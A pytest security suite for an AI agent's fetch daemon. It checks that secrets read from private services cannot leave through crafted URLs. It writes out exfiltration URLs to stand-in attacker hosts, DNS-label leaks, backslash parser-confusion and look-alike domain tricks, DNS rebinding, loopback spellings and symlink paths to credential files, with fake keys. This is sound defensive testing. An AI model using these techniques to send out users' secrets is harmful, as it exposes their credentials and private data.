"""Attacker's-eye review of the defences that were rebuilt from principles (exit rule, never-read roots, address
comparisons), against the real daemon over real sockets.

Found and fixed here (each first mounted as a failing test):

* **DNS before the exit rule.** After a private read, ``http://<secret>.exfil.test/`` was held, but the
  private-network rule had already looked the name up: the label reached the resolver (and so the attacker's
  name server) before the exit decision. The exit rule now decides before any name of the agent's URL is looked up.
* **Two parsers, two hosts.** ``http://<attacker>\\@<private origin>/`` is the private origin to Python's parser
  (and httpx) but the attacker to every browser's (WHATWG: ``\\`` ends the authority). The exit rule let it go as
  the private content's own origin, and the user's browser (the extension) opened the attacker's page with it;
  headless Chromium was held by the daemon's proxy, which judges the connection it makes. Every check and the
  fetch now read the URL the way a browser does, and a redirect hop is decided under both readings.
* **IDNA 2003 vs UTS #46.** ``faß.test`` was ``fass.test`` to trawl's host comparisons but ``xn--fa-hia.test`` to
  httpx and Chromium: an allow entry for ``fass.test`` vouched for another registrant's domain.
* **A token file.** A document-named file whose lines are nothing but secret-looking tokens (``deploy-key.txt``,
  a pasted API key) was read for agents; its content is a secret's, whatever its name.
* **The unspecified address is this host.** With ``127.0.0.1`` denied, ``http://0.0.0.0:PORT/``, ``0:PORT`` and
  ``[::ffff:0.0.0.0]:PORT`` read the denied service (the kernel connects them to 127.0.0.1; ``[::]`` to ``::1``),
  and another user's listener on 127.0.0.1 was not found for them (nor for ``[::ffff:127.0.0.1]``) by the check the
  extension relies on. An address the kernel routes to this host is now the loopback address it lands on.

Held (kept as regression tests): a transformed secret to an unvouched host, split over several requests; the
classic address spellings of a private origin used as the attacker's host.
"""

from __future__ import annotations

import socket
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from trawl.exits import normalise_url
from trawl.netguard import parse_ip
from trawl.policy import SitePolicy, canonical_host, now_revision, policy_store
from trawl.roots import content_reason
from trawl.server.runner import RunningDaemon

from tests.integration.test_daemon_helpers import daemon_settings
from tests.security.conftest import site
from tests.security.test_exits import TOKEN, Server, fetch, page, serve
from tests.security.test_exits import attacker as attacker  # the fixture
from tests.security.test_private_hosts import v1_fetch

NOTES = page("Notes", f"<p>The payment API key is {TOKEN}; it stays in the team.</p>" * 2)


async def serve_notes(srv: Server) -> tuple[web.AppRunner, int]:
    """A local service on 127.0.0.1 whose notes show the secret (a dev server, a NAS, an intranet wiki)."""

    async def handle(request: web.Request) -> web.Response:
        srv.hits.append(str(request.rel_url))
        return web.Response(text=NOTES, content_type="text/html")

    return await serve("127.0.0.1", handle)


async def read_private(d: RunningDaemon, url: str) -> None:
    """The agent reads the private page: its session is tainted from now on."""
    notes = await fetch(d, url)
    assert notes["ok"] is True and TOKEN in str(notes["chunks"]), notes


def held(body: dict[str, Any], what: object = "") -> None:
    """Not sent: held for the user's yes, or refused."""
    assert body["ok"] is False and body["error"]["code"] in ("exit_held", "exit_refused"), (what, body)


@pytest.fixture
async def service() -> AsyncIterator[Server]:
    """The local service on ``localhost`` (private by name and by address)."""
    srv = Server("")
    runner, port = await serve_notes(srv)
    srv.url = f"http://localhost:{port}"
    yield srv
    await runner.cleanup()


class Lookups:
    """Every name trawl's resolver is asked for (``socket.getaddrinfo``, the seam every source resolves through);
    ``answers`` maps a few test names to addresses, the rest resolve as usual."""

    def __init__(self, answers: dict[str, str] | None = None) -> None:
        self.names: list[str] = []
        self.answers = answers or {}
        self._real = socket.getaddrinfo

    def __call__(self, host: Any, port: Any, *args: Any, **kw: Any) -> Any:
        name = (host.decode() if isinstance(host, bytes) else str(host)).rstrip(".").lower()
        self.names.append(name)
        if name in self.answers:
            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (self.answers[name], int(port or 0)))]
        if name.endswith(".exfil.test"):
            raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")
        return self._real(host, port, *args, **kw)


async def test_a_held_url_puts_nothing_of_itself_into_a_dns_query(
    tmp_path: Path, service: Server, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Sent before: the held URL's host was looked up by the private-network rule first (``check_policy``), so the
    secret in its first label reached the resolver. The exit rule now decides first."""
    lookups = Lookups()
    monkeypatch.setattr(socket, "getaddrinfo", lookups)
    label = TOKEN.lower()
    async with RunningDaemon(daemon_settings(tmp_path, allow_private_hosts=True), warm=False) as d:
        await read_private(d, f"{service.url}/notes")
        body = await fetch(d, f"http://{label}.exfil.test/c")
        held(body)
        async with __import__("httpx").AsyncClient(base_url=d.url, timeout=30) as c:  # the MCP face's question
            r = await c.post("/v1/exit_check", json={"fetch_url": f"http://{label}.ask.exfil.test/c"},
                             headers={"Authorization": f"Bearer {d.token}"})
        assert r.status_code in (200, 404), r.text
    leaked = [n for n in lookups.names if label in n.replace(".", "")]
    assert leaked == [], f"the resolver was asked for {leaked}"


async def test_a_url_two_parsers_read_differently_goes_where_a_browser_sends_it(
    tmp_path: Path, chromium: str, service: Server, attacker: Server
) -> None:
    """``http://127.0.0.1:<attacker>\\@localhost:<service>/``: Python's parser (and httpx) read the host after the
    ``@`` (the private origin, free after its own read); Chromium's ends the authority at the backslash and asks
    the attacker for ``/@localhost:<service>/?k=…``. Sent before through headless Chromium; now held."""
    aport = attacker.url.rsplit(":", 1)[1]
    sport = service.url.rsplit(":", 1)[1]
    tricky = f"http://127.0.0.1:{aport}\\@localhost:{sport}/c?k={TOKEN[::-1]}"
    settings = daemon_settings(tmp_path, allow_private_hosts=True, chromium_path=chromium, render_timeout_s=40.0)
    async with RunningDaemon(settings, warm=False) as d:
        await read_private(d, f"{service.url}/notes")
        for source in ("playwright", "http"):
            body = await v1_fetch(d, tricky, query="", source=source)
            held(body, source)
    assert attacker.hits == [], f"the attacker received {attacker.hits}"


@pytest.mark.timeout(120)
async def test_the_users_browser_is_not_sent_to_the_attacker_by_a_url_python_reads_as_the_private_origin(
    tmp_path: Path, chromium: str, service: Server, attacker: Server
) -> None:
    """The same URL through the real extension in Chromium (the user's browser, with their cookies): the exit rule
    judged Python's reading (the private origin, free), the browser opened its own (the attacker). Now held."""
    from tests.e2e.conftest import close_linked, e2e_settings, launch_linked

    aport = attacker.url.rsplit(":", 1)[1]
    sport = service.url.rsplit(":", 1)[1]
    tricky = f"http://127.0.0.1:{aport}\\@localhost:{sport}/c?k={TOKEN[::-1]}"
    stack = await launch_linked(tmp_path, chromium, settings=e2e_settings(tmp_path, allow_private_hosts=True))
    try:
        assert await stack.hub.wait_attached(15), stack.hub.describe()
        await read_private(stack.daemon, f"{service.url}/notes")
        body = await v1_fetch(stack.daemon, tricky, query="", source="extension")
        held(body)
        control = await v1_fetch(stack.daemon, f"{attacker.url}/public", query="", source="extension")
    finally:
        await close_linked(stack)
    assert not any("/c" in h for h in attacker.hits), f"the attacker received {attacker.hits} ({control.get('ok')})"


def test_every_check_reads_a_url_as_a_browser_does() -> None:
    """The one spelling every check and the fetch see: a browser's reading of the authority."""
    assert normalise_url("http://127.0.0.1:9\\@localhost:8/p?q=1").startswith("http://127.0.0.1:9/")
    assert normalise_url("http://a.test\\@b.test/") == "http://a.test/@b.test/"
    assert normalise_url("https://docs.example.com/a?b=c") == "https://docs.example.com/a?b=c"  # unchanged
    assert normalise_url("http://Host.Example:8080/P") == "http://host.example:8080/P"


@pytest.mark.parametrize(("written", "connected"), [
    ("faß.test", "xn--fa-hia.test"),  # UTS #46 nontransitional (browsers, httpx's idna): ß is kept
    ("straße.example", "xn--strae-oqa.example"),
    ("ＦＡＳＳ.test", "fass.test"),  # full-width folds
    ("Bücher.example", "xn--bcher-kva.example"),
])
def test_an_international_host_is_compared_as_the_connection_spells_it(written: str, connected: str) -> None:
    assert canonical_host(written) == connected


async def test_an_allow_entry_does_not_vouch_for_a_look_alike_international_domain(
    tmp_path: Path, service: Server, attacker: Server, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``TRAWL_EXIT_ALLOW_HOSTS=fass.test``; the agent writes ``faß.test``, which httpx and browsers send to
    ``xn--fa-hia.test`` (someone else's domain; here the attacker's server). Sent before (IDNA 2003 folded ß to ss
    for the comparison only); now held."""
    aport = int(attacker.url.rsplit(":", 1)[1])
    monkeypatch.setattr(socket, "getaddrinfo", Lookups({"xn--fa-hia.test": "127.0.0.1", "fass.test": "127.0.0.1"}))
    settings = daemon_settings(tmp_path, allow_private_hosts=True, exit_allow_hosts=("fass.test",))
    async with RunningDaemon(settings, warm=False) as d:
        await read_private(d, f"{service.url}/notes")
        body = await fetch(d, f"http://faß.test:{aport}/c?k={TOKEN[::-1]}")
        held(body)
        control = await fetch(d, f"http://fass.test:{aport}/allowed")  # the allowed host itself is reached
    assert attacker.hits == ["/allowed"], f"the attacker received {attacker.hits} ({control.get('ok')})"


async def test_transformed_and_split_secrets_to_an_unvouched_host_are_all_held(
    tmp_path: Path, service: Server, attacker: Server
) -> None:
    """The flow rule does not read the URL: every spelling of the secret, and every piece of it, is held."""
    import base64

    s = TOKEN
    spellings = [
        s.lower(), s.upper(), "-".join(s), s[::-1], s[::2], s[1::2], base64.b32encode(s.encode()).decode(),
        base64.b64encode(s.encode()).decode(), s.encode().hex(), "".join(f"%{b:02x}" for b in s.encode()),
        s[:5] + "." + s[5:], "xn--" + s.lower(), s.replace("2", "two").replace("4", "four"),
        s.translate(str.maketrans("aeopcx", "аеорсх")),  # Cyrillic look-alikes
    ]
    base = attacker.url
    urls = [f"{base}/q?d={v}" for v in spellings] + [f"{base}/p/{v}" for v in spellings[:4]]
    urls += [f"{base}/#{s}", f"{base}/part?i=1&d={s[:6]}", f"{base}/part?i=2&d={s[6:12]}"]
    async with RunningDaemon(daemon_settings(tmp_path, allow_private_hosts=True), warm=False) as d:
        await read_private(d, f"{service.url}/notes")
        for url in urls:
            body = await fetch(d, url)
            held(body, url)
    assert attacker.hits == [], attacker.hits


@pytest.mark.parametrize("body", [
    "ghp_R8k2Lq9Wm4Zx7Tn3Vb6Yc1Hd5Jf0Sg2Pa4Ke\n",
    "  Zq8vX2mN7pR4tW9yB3kLd5Hx7Rk2Wp9  \n\n",
    "# deploy key, rotate monthly\nAKIAIOSFODNN7QWERTY12\nwJalrXUtnFEMI/K7MDENG/bPxRfiCYzq8vX2mN7p\n",
])
def test_a_file_of_nothing_but_a_token_is_a_secret_whatever_its_name(body: str) -> None:
    """A document-named file (``deploy-key.txt``, ``notes.md``) whose every line is one secret-looking value holds a
    secret, not a document."""
    for name in ("deploy-key.txt", "notes.md", "README"):
        assert content_reason(name, body.encode(), named=False) is not None, (name, body)


@pytest.mark.parametrize("body", [
    "A short note about the release.\n",
    "v1.2.3\n",
    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  dist/trawl.tar.gz\n",
    "https://docs.example.com/guide/getting-started\n",
])
def test_a_short_ordinary_document_is_still_read(body: str) -> None:
    assert content_reason("notes.txt", body.encode(), named=False) is None, body


async def test_a_browser_profile_kept_inside_a_root_is_not_read(tmp_path: Path) -> None:
    """A Chromium profile made with ``--user-data-dir`` inside a project (no listed directory names it): its
    history, cookies and saved logins are SQLite databases; ``History`` even has a document's name."""
    import sqlite3

    profile = tmp_path / "proj" / "chrome-profile" / "Default"
    profile.mkdir(parents=True)
    for name in ("History", "Cookies", "Login Data"):
        db = sqlite3.connect(profile / name)
        db.execute("create table t(v text)")
        db.execute("insert into t values (?)", (f"https://bank.example/account?session={TOKEN}",))
        db.commit()
        db.close()
    (profile.parent / "Local State").write_text('{"os_crypt": {"encrypted_key": "' + TOKEN + '"}}')
    async with RunningDaemon(daemon_settings(tmp_path), warm=False) as d:
        for f in [profile / "History", profile / "Cookies", profile / "Login Data", profile.parent / "Local State"]:
            body = await fetch(d, str(f))
            assert body["ok"] is False and body["error"]["code"] in ("path_not_allowed", "unsupported_content",
                                                                     "invalid_request"), (f.name, body)
            assert TOKEN not in str(body), body


async def test_credential_stores_reached_by_odd_paths_or_moved_by_the_environment_are_not_read(
    tmp_path: Path
) -> None:
    """Held: an SSH key reached through a symlink, ``..``, ``/proc/self/root``, ``/dev/fd`` or a hard link; and the
    stores tools keep wherever an environment variable moves them (``GNUPGHOME``, ``CLOUDSDK_CONFIG``,
    ``AWS_SHARED_CREDENTIALS_FILE``, ``KUBECONFIG``, ``DOCKER_CONFIG``, ``PASSWORD_STORE_DIR``, ``XDG_CONFIG_HOME``,
    ``NETRC``) into a root under names no list knows: they are data, keys or extensionless files, never documents."""
    import os

    key = f"-----BEGIN OPENSSH PRIVATE KEY-----\n{TOKEN}\n-----END OPENSSH PRIVATE KEY-----\n"
    ssh = tmp_path / "home" / ".ssh"
    ssh.mkdir(parents=True)
    (ssh / "id_ed25519").write_text(key)
    root = tmp_path / "proj"
    moved = {  # where the environment put each tool's store, inside the root
        "gpg/private-keys-v1.d/4F2A.key": key, "gpg/pubring.kbx": TOKEN, "gcloud/credentials.db": TOKEN,
        "gcloud/legacy_credentials/me/adc.json": '{"refresh_token": "' + TOKEN + '"}',
        "gcloud/configurations/config_default": f"[core]\naccount = me\ntoken = {TOKEN}\n",
        "aws-creds": f"[default]\naws_secret_access_key = {TOKEN}\n", "kube/config": f"users:\n- token: {TOKEN}\n",
        "docker/config.json": '{"auths": {"r": {"auth": "' + TOKEN + '"}}}', "pass/bank.gpg": TOKEN,
        "cfg/rclone/rclone.conf": f"[drive]\ntoken = {TOKEN}\n",
        "cfg/gh/hosts.yml": f"github.com:\n  oauth_token: {TOKEN}\n",
        "cfg/git/credentials": f"https://me:{TOKEN}@github.com\n", "netrc": f"machine h login me password {TOKEN}\n",
        "notes/api-key.txt": f"{TOKEN}\n",
    }
    for rel, text in moved.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)
    (root / "link-to-key.md").symlink_to(ssh / "id_ed25519")
    os.link(ssh / "id_ed25519", root / "hard-link.md")
    tries = [root / rel for rel in moved] + [
        root / "link-to-key.md", root / "hard-link.md", Path(f"{root}/../home/.ssh/id_ed25519"),
        Path(f"/proc/self/root{ssh}/id_ed25519"),
    ]
    async with RunningDaemon(daemon_settings(tmp_path, file_roots=(str(root),)), warm=False) as d:
        with open(ssh / "id_ed25519") as fh:
            tries.append(Path(f"/dev/fd/{fh.fileno()}"))
            for f in tries:
                body = await fetch(d, str(f))
                assert body["ok"] is False, (str(f), body)
                assert TOKEN not in str(body), body


async def test_another_user_squatting_the_private_origins_port_receives_nothing(tmp_path: Path) -> None:
    """Another OS user waits for the user's dev server on 127.0.0.1:PORT to stop, then listens on that port. The
    agent read the dev server, so its own origin is free: ``http://127.0.0.1:PORT/c?k=<secret>`` went to the
    squatter. trawl now connects to a loopback port only when its listener is the user's own (or root's, which is
    out of scope: it can read everything anyway), read from the kernel like the daemon's own door."""
    from tests.security.channel_util import Recorder, require_root

    require_root()
    runner, port = await serve_notes(Server(""))
    async with RunningDaemon(daemon_settings(tmp_path), warm=False) as d:
        await read_private(d, f"http://127.0.0.1:{port}/notes")
        await runner.cleanup()  # the dev server stops ...
        squatter = Recorder.tcp(port, as_nobody=True)  # ... and another user takes its port
        try:
            body = await fetch(d, f"http://127.0.0.1:{port}/c?k={TOKEN[::-1]}")
            got = squatter.received()
        finally:
            squatter.stop()
    assert TOKEN[::-1].encode() not in got and got == b"", f"the squatter received {got[:200]!r}"
    assert body["ok"] is False and body["error"]["code"] == "blocked_by_policy", body
    assert "another user" in body["error"]["message"], body["error"]


@pytest.fixture
def another_user() -> Iterator[tuple[int, Any]]:
    """Another OS user (``nobody``) listening on a free loopback port, recording every byte it is sent."""
    from tests.security.channel_util import Recorder, require_root

    require_root()
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = int(probe.getsockname()[1])
    squatter = Recorder.tcp(port, as_nobody=True)
    try:
        yield port, squatter
    finally:
        squatter.stop()


@pytest.mark.parametrize("source", ["http", "playwright"])
async def test_no_source_sends_a_request_to_another_users_loopback_listener(
    tmp_path: Path, chromium: str, source: str, another_user: tuple[int, Any]
) -> None:
    """The same rule for every connection trawl makes: the HTTP source's (pinned transport) and headless
    Chromium's (the daemon's proxy). Another user's listener gets no byte, not even in a session that read
    nothing (its pages are not the user's own service either)."""
    port, squatter = another_user
    settings = daemon_settings(tmp_path, chromium_path=chromium, render_timeout_s=40.0)
    async with RunningDaemon(settings, warm=False) as d:
        body = await v1_fetch(d, f"http://127.0.0.1:{port}/page", query="", source=source)
    got = squatter.received()
    assert got == b"", f"the squatter received {got[:200]!r}"
    assert body["ok"] is False, body


@pytest.mark.parametrize("source", ["http", "playwright"])
async def test_the_peer_uid_setting_turned_off_lets_every_source_reach_another_users_listener(
    tmp_path: Path, chromium: str, source: str, another_user: tuple[int, Any]
) -> None:
    """``TRAWL_PEER_UID_CHECK=0`` is the documented way to read another user's loopback service, for every source
    alike (the headless proxy checked the listener's owner whatever the setting)."""
    port, squatter = another_user
    settings = daemon_settings(tmp_path, chromium_path=chromium, render_timeout_s=20.0, peer_uid_check=False)
    async with RunningDaemon(settings, warm=False) as d:
        await v1_fetch(d, f"http://127.0.0.1:{port}/page", query="", source=source)
    assert b"GET /page" in squatter.received()


@pytest.mark.timeout(120)
@pytest.mark.parametrize("host", ["127.0.0.1", "[::ffff:127.0.0.1]"])
async def test_the_users_browser_is_not_sent_to_another_users_loopback_listener(
    tmp_path: Path, chromium: str, another_user: tuple[int, Any], host: str
) -> None:
    """The extension's tab cannot ask the kernel who listens: the daemon does, before any source runs (the
    listener table), so the user's browser, with its cookies for ``127.0.0.1``, sends the squatter nothing. The
    listener is found under the address the connection lands on (``[::ffff:127.0.0.1]`` was missed)."""
    from tests.e2e.conftest import close_linked, e2e_settings, launch_linked

    port, squatter = another_user
    stack = await launch_linked(tmp_path, chromium, settings=e2e_settings(tmp_path))
    try:
        assert await stack.hub.wait_attached(15), stack.hub.describe()
        body = await v1_fetch(stack.daemon, f"http://{host}:{port}/page", query="", source="extension")
    finally:
        await close_linked(stack)
    got = squatter.received()
    assert got == b"", f"the squatter received {got[:200]!r}"
    assert body["ok"] is False and body["error"]["code"] == "blocked_by_policy", body


def test_a_host_named_inside_a_url_is_found_in_every_spelling_a_browser_follows() -> None:
    """An open redirect's target written with backslashes (``http:\\\\h``, ``/\\h``), which a browser follows to
    host h: the exit rule must see that host too."""
    from trawl.exits import nested_hosts

    for target in ("http:%5C%5Cattacker.test/x", "/%5Cattacker.test/x", "http:/%5Cattacker.test",
                   "%2F%2Fattacker.test"):
        assert "attacker.test" in nested_hosts(f"https://ok.example/go?to={target}"), target


@pytest.mark.parametrize("body", [
    "PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none\nComment: me@laptop\nPublic-Lines: 2\n"
    "AAAAC3NzaC1lZDI1NTE5AAAAIHq8vX2mN7pR4tW9yB3kLd5Hx7Rk2Wp9\nZq8vX2mN7pR4tW9yB3kL\nPrivate-Lines: 1\n"
    "AAAAIFq8vX2mN7pR4tW9yB3kLd5Hx7Rk2Wp9Zq8vX2mN7pR4\nPrivate-MAC: 5f2a9c\n",
    "# created: 2026-01-01T00:00:00Z\n# public key: age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p\n"
    "AGE-SECRET-KEY-1QYQSZQGPQYQSZQGPQYQSZQGPQYQSZQGPQYQSZQGPQYQSZQGPQYQSZQGPQY\n",
])
def test_a_private_key_in_any_format_is_refused_whatever_the_files_name(body: str) -> None:
    for name in ("laptop.txt", "notes.md", "key-backup.py"):
        assert content_reason(name, body.encode(), named=True) is not None, (name, body[:30])


def test_a_list_of_links_with_commit_hashes_is_still_a_document() -> None:
    body = ("https://github.com/example/project/commit/3f2a9c4e5b6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f\n"
            "https://github.com/example/project/commit/9e0f3f2a9c4e5b6d7e8f9a0b1c2d3e4f5a6b7c8d\n")
    assert content_reason("links.txt", body.encode(), named=False) is None


@pytest.mark.parametrize(("source", "when"), [("http", "before"), ("playwright", "before"),
                                             ("playwright", "during")])
async def test_the_private_origin_cannot_be_rebound_to_the_attacker_after_its_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, chromium: str, source: str, when: str
) -> None:
    """``rebind.test`` answers 127.0.0.1 (the user's service) for the private read, then the attacker's address:
    the name is the private content's own origin, so the composed URL was free, and it went to the new address.
    The own-origin allowance is bound to the addresses the private read connected to. ``during``: the name moves
    only once the HTTP source's walk of the hops (a tainted session's headless fetch) was answered by the service,
    so only the headless proxy's own lookup sees the attacker's address."""
    lookups = Lookups({"rebind.test": "127.0.0.1"})
    monkeypatch.setattr(socket, "getaddrinfo", lookups)
    got: list[str] = []

    async def service(request: web.Request) -> web.Response:
        if request.path == "/c" and when == "during":
            lookups.answers["rebind.test"] = "127.0.0.2"
        return web.Response(text=NOTES, content_type="text/html", headers={"Connection": "close"})

    async def collect(request: web.Request) -> web.Response:
        got.append(str(request.rel_url))
        return web.Response(text=page("Thanks", "<p>" + "Collected, thank you for the data. " * 5 + "</p>"),
                            content_type="text/html")

    async with site(service) as port, site(collect, "127.0.0.2", port):  # the attacker on the same port
        settings = daemon_settings(tmp_path, chromium_path=chromium, render_timeout_s=40.0)
        async with RunningDaemon(settings, warm=False) as d:
            await read_private(d, f"http://rebind.test:{port}/notes")
            if when == "before":
                lookups.answers["rebind.test"] = "127.0.0.2"  # the attacker's name server changes its answer
            body = await v1_fetch(d, f"http://rebind.test:{port}/c?k={TOKEN[::-1]}", query="", source=source)
    assert got == [], f"the attacker received {got}"
    assert body["ok"] is False, body


@pytest.mark.timeout(120)
async def test_the_users_browser_does_not_relay_through_the_private_origin_to_another_port(
    tmp_path: Path, chromium: str
) -> None:
    """The private origin (127.0.0.1:P1, the user's service) has an open redirect written in its path
    (``/bounce/<port>/…``, so no host is named inside the URL); the agent sends the composed URL there through
    the extension, which would follow the hop to 127.0.0.1:P2 (the attacker, a listener of the test's own user
    here). Held: the extension reports no hops, but its background tab does not leave the checked origin."""
    from tests.e2e.conftest import close_linked, e2e_settings, launch_linked

    got: list[str] = []

    async def service(request: web.Request) -> web.Response:
        if request.path.startswith("/bounce/"):
            _b, _n, port, rest = request.path.split("/", 3)
            raise web.HTTPFound(f"http://127.0.0.1:{port}/{rest}?{request.query_string}")
        return web.Response(text=NOTES, content_type="text/html")

    async def collect(request: web.Request) -> web.Response:
        got.append(str(request.rel_url))
        return web.Response(text=page("Thanks", "<p>" + "Collected, thank you for the data. " * 5 + "</p>"),
                            content_type="text/html")

    own, own_port = await serve("127.0.0.1", service)
    other, other_port = await serve("127.0.0.1", collect)
    stack = await launch_linked(tmp_path, chromium, settings=e2e_settings(tmp_path))
    try:
        assert await stack.hub.wait_attached(15), stack.hub.describe()
        await read_private(stack.daemon, f"http://127.0.0.1:{own_port}/notes")
        await v1_fetch(stack.daemon, f"http://127.0.0.1:{own_port}/bounce/{other_port}/c?k={TOKEN[::-1]}", query="",
                       source="extension")
    finally:
        await close_linked(stack)
        await own.cleanup()
        await other.cleanup()
    assert not any("/c" in h for h in got), f"the other port received {got}"


def test_a_url_named_inside_a_url_of_the_private_origin_is_judged_by_its_own_port(tmp_path: Path) -> None:
    """The private origin is ``http://127.0.0.1:8000`` (the user's service); a URL of it that names
    ``http://127.0.0.1:9999/…`` inside (an open redirect's target: another service, maybe another user's) was let
    through as the own origin, the named port ignored. Each nested URL is its own origin now; the one it names on
    the same port still goes."""
    from trawl.exitflow import agent_session
    from trawl.exits import ExitGuard

    guard = ExitGuard(daemon_settings(tmp_path))
    with agent_session("s32-nested"):
        guard.flow.observe("fetch", {"url": "http://127.0.0.1:8000/notes", "source": "http"})
        for inner in ("http://127.0.0.1:9999/c?k=1", "//127.0.0.1:9999/c?k=1", "https://127.0.0.1/c"):
            assert not guard.verdict(f"http://127.0.0.1:8000/r?to={inner}").send, inner
        assert guard.verdict("http://127.0.0.1:8000/r?to=http://127.0.0.1:8000/next").send
        assert guard.verdict("http://127.0.0.1:8000/r?to=//127.0.0.1:8000/next").send


# The unspecified address is this host: a socket aimed at 0.0.0.0 is connected to 127.0.0.1, one aimed at ``::`` to
# ``::1`` (Linux; measured by the test itself). Each spelling, with the loopback address it lands on.
UNSPECIFIED = [("0.0.0.0", "127.0.0.1"), ("0", "127.0.0.1"), ("0x0", "127.0.0.1"), ("0.0", "127.0.0.1"),
               ("[::ffff:0.0.0.0]", "127.0.0.1"), ("[::]", "[::1]"), ("[0:0:0:0:0:0:0:0]", "[::1]")]


def lands_on(connect: str, listen: str) -> bool:
    """Does a connection to ``connect`` reach a listener bound to ``listen`` only (the real kernel)?"""
    family = socket.AF_INET6 if ":" in listen else socket.AF_INET
    target = connect.strip("[]")
    try:
        server = socket.create_server((listen.strip("[]"), 0), family=family)
    except OSError:
        pytest.skip(f"cannot listen on {listen}")
    with server, socket.socket(socket.AF_INET6 if ":" in target else socket.AF_INET) as client:
        client.settimeout(5)
        try:
            client.connect((target, server.getsockname()[1]))
        except OSError:
            return False
        return True


@pytest.mark.parametrize(("host", "loopback"), UNSPECIFIED)
def test_a_denied_loopback_address_is_not_reached_through_the_unspecified_address(host: str, loopback: str) -> None:
    """Open before: ``0.0.0.0``, ``0`` and ``[::]`` were addresses of their own to the site policy, while the kernel
    connects them to the machine's own listener (127.0.0.1's, ::1's). An address the kernel routes to this host is
    now the loopback address it lands on, in both directions (a deny of ``0.0.0.0`` is a deny of 127.0.0.1)."""
    if parse_ip(host) is not None:  # the fact the rule rests on: this kernel lands there (``0`` is a URL spelling)
        assert lands_on(host, loopback), (host, loopback)
    url = normalise_url(f"http://{host}:8080/admin")
    assert SitePolicy(deny=(loopback,)).decide(url).allowed is False, url
    assert SitePolicy(deny=(host,)).decide(f"http://{loopback}:8080/admin").allowed is False, host
    assert SitePolicy(deny=(f"{loopback}:8080",)).decide(url).allowed is False, url
    assert SitePolicy(deny=(f"{loopback}:8081",)).decide(url).allowed is True, url


def test_an_unspecified_address_of_the_other_family_is_not_the_other_loopback() -> None:
    """``[::]`` lands on ``::1``, never on a listener bound to 127.0.0.1 only (measured): the two stay apart, like
    ``127.0.0.1`` and ``[::1]`` themselves (a dual-stack wildcard listener is reached by both: deny both)."""
    assert not lands_on("[::]", "127.0.0.1") and not lands_on("0.0.0.0", "[::1]")
    assert SitePolicy(deny=("127.0.0.1",)).decide("http://[::]:8080/").allowed is True
    assert SitePolicy(deny=("[::1]",)).decide("http://0.0.0.0:8080/").allowed is True


@pytest.mark.parametrize("source", ["http", "playwright"])
async def test_a_denied_local_service_is_not_read_through_the_unspecified_address(
    tmp_path: Path, chromium: str, source: str
) -> None:
    """The attack through the real daemon: 127.0.0.1 and ::1 denied, the service on 127.0.0.1 (and on ::1 where the
    machine has IPv6) read through ``0.0.0.0``, ``0``, ``[::ffff:0.0.0.0]``, ``[::]``. Before: the page."""
    srv = Server("")
    runner, port = await serve_notes(srv)
    runner6, port6 = await serve6(srv)
    hosts = [f"{h}:{port}" for h in ("0.0.0.0", "0", "[::ffff:0.0.0.0]")] + ([f"[::]:{port6}"] if port6 else [])
    settings = daemon_settings(tmp_path, chromium_path=chromium, render_timeout_s=40.0,
                               exit_public_hosts=("127.0.0.1", "::1"))  # the control's reads taint nothing
    try:
        async with RunningDaemon(settings, warm=False) as d:
            policy_store(settings).save(SitePolicy.from_json({"deny": ["127.0.0.1", "[::1]"],
                                                              "revision": now_revision()}))
            for hostport in hosts:
                body = await v1_fetch(d, f"http://{hostport}/notes", query="", source=source)
                assert body["ok"] is False and body["error"]["code"] == "blocked_by_policy", (hostport, body)
                assert "deny list" in body["error"]["message"] and TOKEN not in str(body), body
            denied_hits = list(srv.hits)
            policy_store(settings).save(SitePolicy.from_json({"deny": [], "revision": now_revision()}))
            for hostport in hosts:  # the control: without the deny, each spelling reaches the service
                body = await v1_fetch(d, f"http://{hostport}/notes", query="", source=source)
                assert body["ok"] is True and TOKEN in str(body), (hostport, body.get("error"))
    finally:
        await runner.cleanup()
        if runner6 is not None:
            await runner6.cleanup()
    assert denied_hits == [], f"the denied service was contacted: {denied_hits}"


async def serve6(srv: Server) -> tuple[web.AppRunner | None, int]:
    """The same notes on ``::1`` (None, 0 without IPv6 loopback)."""
    try:
        with socket.socket(socket.AF_INET6) as probe:
            probe.bind(("::1", 0))
    except OSError:
        return None, 0

    async def handle(request: web.Request) -> web.Response:
        srv.hits.append(str(request.rel_url))
        return web.Response(text=NOTES, content_type="text/html")

    app = web.Application()
    app.router.add_get("/{tail:.*}", handle)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    await web.TCPSite(runner, "::1", 0).start()
    return runner, int(runner.addresses[0][1])


@pytest.mark.parametrize("host", ["0.0.0.0", "[::ffff:127.0.0.1]", "[::ffff:0.0.0.0]"])
async def test_another_users_loopback_listener_is_found_under_every_spelling_before_any_source_runs(
    tmp_path: Path, host: str, another_user: tuple[int, Any]
) -> None:
    """The check the extension's tab relies on (the kernel's listener table, before any source runs) compared the
    URL's literal as written: another user's listener on 127.0.0.1:PORT was not found for ``0.0.0.0:PORT`` or
    ``[::ffff:127.0.0.1]:PORT``, which land on it, so the user's browser would have been sent there."""
    from trawl.netguard import NetGuard
    from trawl.types import TrawlError

    port, squatter = another_user
    guard = NetGuard(daemon_settings(tmp_path))
    with pytest.raises(TrawlError) as err:
        await guard.check_host(host, port)
    assert "another user" in err.value.message, err.value.message
    assert squatter.received() == b""


async def test_an_international_private_host_the_user_allowed_is_read_under_either_spelling(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``TRAWL_ALLOW_HOSTS=bücher.test:PORT`` (a NAS on the LAN) matched the Unicode name the site policy saw but not
    the ``xn--`` name httpx connects to: refused either way (never opened anything). One spelling now."""
    monkeypatch.setattr(socket, "getaddrinfo", Lookups({"xn--bcher-kva.test": "127.0.0.1"}))
